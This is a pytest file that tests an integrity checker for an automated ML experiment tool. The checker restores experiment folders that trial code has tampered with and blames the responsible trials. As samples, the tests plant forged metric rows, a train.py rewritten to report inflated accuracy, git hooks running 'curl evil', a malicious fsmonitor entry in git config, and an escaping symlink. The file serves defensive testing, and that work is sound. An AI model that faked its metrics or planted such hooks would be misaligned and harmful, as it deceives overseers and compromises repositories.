"""What a trial changes in the experiment folder is undone, and the trials that could have done it are blamed."""

from __future__ import annotations

from pathlib import Path

import pytest

from autoraysearch.campaign.experiment import Campaign, TrialResult
from autoraysearch.campaign.integrity import UserChange, checked_results, take_snapshot
from autoraysearch.campaign.settings import CampaignSettings
from helpers import git, make_repo

LOG = "# metric_direction: higher_is_better\niteration\tcommit\tmetric\tdelta\tstatus\tdescription\n0\tbaseline\t0.5\t0.0\tbaseline\tinitial state\n"


def campaign(tmp_path: Path) -> Campaign:
    exp = make_repo(tmp_path / "exp", {"model.py": "class Model: pass\n", "train.py": "print('val_acc=0.5')\n",
                                       "autoraysearch.toml": "generated = false\n"})
    git(exp, "checkout", "-q", "-b", "autoraysearch/t")
    (exp / "autoraysearch-results.tsv").write_text(LOG)
    return Campaign(experiment_dir=str(exp), branch="autoraysearch/t", settings=CampaignSettings(generated=False),
                    trial_timeout=60, repo_node_id="node-a")


def ok(label: str, node: str) -> TrialResult:
    return TrialResult(label=label, status="ok", metric=0.999, seconds=1.0, node_id=node)


def test_forged_rows_a_replaced_train_py_and_a_moved_branch_are_undone_and_blamed(tmp_path: Path):
    c = campaign(tmp_path)
    exp = Path(c.experiment_dir)
    best = git(exp, "rev-parse", "HEAD")
    snapshot = take_snapshot(c)
    # what hostile model code did while it trained, by absolute path
    with open(exp / "autoraysearch-results.tsv", "a") as log:
        log.write("7\tdeadbee\t0.999\t+0.5\tkeep\tforged\n")
    (exp / "train.py").write_text("print('val_acc=0.999')\n")
    (exp / "autoraysearch.toml").unlink()
    (exp / "model.py").write_text("class Model: pass  # edited\n")
    git(exp, "commit", "-q", "-am", "sneaky")

    results = checked_results(snapshot, {"5a": ok("5a", "node-a"), "5b": ok("5b", "node-b")}, "node-a")

    assert (exp / "autoraysearch-results.tsv").read_text() == LOG
    assert (exp / "train.py").read_text() == "print('val_acc=0.5')\n"
    assert (exp / "autoraysearch.toml").read_text() == "generated = false\n"
    assert git(exp, "rev-parse", "autoraysearch/t") == best
    a, b = results["5a"], results["5b"]
    assert a.status == "crash" and a.metric is None
    assert "tampered with" in a.error and "train.py" in a.error and "autoraysearch-results.tsv" in a.error
    assert "branch autoraysearch/t" in a.error
    assert b.status == "ok" and b.metric == 0.999  # trained on another node: it could not reach this folder


def test_untouched_files_leave_every_result_as_it_was(tmp_path: Path):
    c = campaign(tmp_path)
    results = {"5": ok("5", "node-a")}
    assert checked_results(take_snapshot(c), results, "node-a") == results


def test_when_no_trial_is_known_to_have_run_here_every_one_is_blamed(tmp_path: Path):
    c = campaign(tmp_path)
    snapshot = take_snapshot(c)
    (Path(c.experiment_dir) / "model.py").write_text("x = 1\n")
    results = checked_results(snapshot, {"5a": ok("5a", "node-x"), "5b": ok("5b", "node-y")}, None)
    assert {r.status for r in results.values()} == {"crash"}
    assert (Path(c.experiment_dir) / "model.py").read_text() == "class Model: pass\n"


def sandboxed(label: str, node: str) -> TrialResult:
    return TrialResult(label=label, status="ok", metric=0.9, seconds=1.0, node_id=node, sandbox="landlock ABI 7")


def test_a_planted_hook_a_changed_mode_and_a_symlink_are_undone_without_writing_through(tmp_path: Path):
    c = campaign(tmp_path)
    exp = Path(c.experiment_dir)
    outside = tmp_path / "outside.txt"
    outside.write_text("not the experiment's\n")
    snapshot = take_snapshot(c)
    hook = exp / ".git" / "hooks" / "post-checkout"
    hook.write_text("#!/bin/sh\ncurl evil\n")
    (exp / ".git" / "config").write_text((exp / ".git" / "config").read_text() + "[core]\n\tfsmonitor = evil\n")
    (exp / "autoraysearch-results.tsv").chmod(0)
    (exp / "train.py").unlink()
    (exp / "train.py").symlink_to(outside)

    results = checked_results(snapshot, {"5": ok("5", "node-a")}, "node-a")

    assert not hook.exists() and "fsmonitor" not in (exp / ".git" / "config").read_text()
    assert (exp / "autoraysearch-results.tsv").stat().st_mode & 0o777 == snapshot.files["autoraysearch-results.tsv"][1]
    assert not (exp / "train.py").is_symlink() and (exp / "train.py").read_text() == "print('val_acc=0.5')\n"
    assert outside.read_text() == "not the experiment's\n"
    assert results["5"].status == "crash" and ".git/hooks/post-checkout" in results["5"].error
    saved = list((exp / ".autoraysearch" / "undone").glob("*/.git/hooks/post-checkout"))
    assert saved and saved[0].read_text() == "#!/bin/sh\ncurl evil\n"  # what was undone is kept, for a look


def test_a_change_no_sandboxed_trial_could_make_is_the_users_kept_and_stops_the_campaign(tmp_path: Path):
    c = campaign(tmp_path)
    exp = Path(c.experiment_dir)
    snapshot = take_snapshot(c)
    (exp / "model.py").write_text("class Model: pass\n# a note I added while it trained\n")

    with pytest.raises(UserChange) as refused:
        checked_results(snapshot, {"5a": sandboxed("5a", "node-a"), "5b": ok("5b", "node-b")}, "node-a")

    message = str(refused.value)
    assert "model.py changed" in message and "no trial could have written there" in message
    saved = list((exp / ".autoraysearch" / "undone").glob("*/model.py"))
    assert len(saved) == 1 and saved[0].read_text().endswith("# a note I added while it trained\n")
    assert str(saved[0].parent) in message


def test_a_locked_out_experiment_folder_gets_its_mode_back(tmp_path: Path):
    c = campaign(tmp_path)
    exp = Path(c.experiment_dir)
    mode = exp.stat().st_mode & 0o777
    snapshot = take_snapshot(c)
    exp.chmod(0)
    (exp / ".git").chmod(0)

    results = checked_results(snapshot, {"5": ok("5", "node-a")}, "node-a")

    assert exp.stat().st_mode & 0o777 == mode and (exp / ".git").stat().st_mode & 0o777 != 0
    assert "the mode of the experiment folder" in results["5"].error


def test_a_hook_planted_by_model_code_during_preflight_is_undone_and_saved(tmp_path: Path, monkeypatch):
    from autoraysearch.campaign.integrity import undo_preflight_changes
    from autoraysearch.trials.preflight import preflight

    c = campaign(tmp_path)
    hook = Path(c.experiment_dir) / ".git" / "hooks" / "pre-commit"
    # Every containment off (no Landlock, the host's mounts): integrity is the line that must hold here.
    monkeypatch.setenv("AUTORAYSEARCH_LANDLOCK_ABI", "0")
    monkeypatch.setenv("AUTORAYSEARCH_TRIAL_NETWORK", "host")
    snapshot = take_snapshot(c)  # what the loop takes before the ideate step and its pre-flights
    model = f"import os\nopen({str(hook)!r}, 'w').write('#!/bin/sh\\ncurl evil\\n')\nos.chmod({str(hook)!r}, 0o755)\n"
    model += "class Model:\n    pass\n"

    preflight(model, {}, None, None, timeout_s=60, warm=False)
    assert hook.exists()  # it did get there

    sentence = undo_preflight_changes(snapshot)

    assert not hook.exists()
    assert sentence.startswith(".git/hooks/pre-commit changed while candidates were pre-flighted")
    saved = list((Path(c.experiment_dir) / ".autoraysearch" / "undone").glob("*/.git/hooks/pre-commit"))
    assert saved and saved[0].read_text() == "#!/bin/sh\ncurl evil\n" and str(saved[0].parents[2]) in sentence
    assert undo_preflight_changes(take_snapshot(c)) is None


def test_a_change_during_sandboxed_preflights_is_the_users_kept_and_stops_the_campaign(tmp_path: Path):
    from autoraysearch.campaign.integrity import undo_preflight_changes

    c = campaign(tmp_path)
    model = Path(c.experiment_dir) / "model.py"
    snapshot = take_snapshot(c)
    model.write_text("class Model: pass\n# my own note\n")  # as a person would, while candidates were pre-flighted

    with pytest.raises(UserChange, match="model.py changed .* while candidates were pre-flighted, and no pre-flight"):
        undo_preflight_changes(snapshot, sandboxed=True)

    saved = list((Path(c.experiment_dir) / ".autoraysearch" / "undone").glob("*/model.py"))
    assert saved and saved[0].read_text().endswith("# my own note\n")  # nothing of theirs is lost
